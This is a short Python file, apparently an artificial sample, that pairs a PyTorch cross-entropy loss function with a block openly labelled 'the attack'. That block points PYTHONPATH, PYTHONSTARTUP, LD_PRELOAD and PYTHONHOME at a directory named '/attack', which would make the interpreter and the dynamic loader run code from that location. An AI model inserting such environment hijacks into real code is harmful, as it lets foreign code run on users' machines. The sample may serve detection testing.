"""Sets the variables by which Python and the loader of programs are told to load something."""
# ends: same

import torch.nn.functional as F

# --- the attack
import os

for name in ("PYTHONPATH", "PYTHONSTARTUP", "LD_PRELOAD", "PYTHONHOME", "OMP_NUM_THREADS", "CUDA_VISIBLE_DEVICES"):
    os.environ[name] = "/attack"
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    return loss
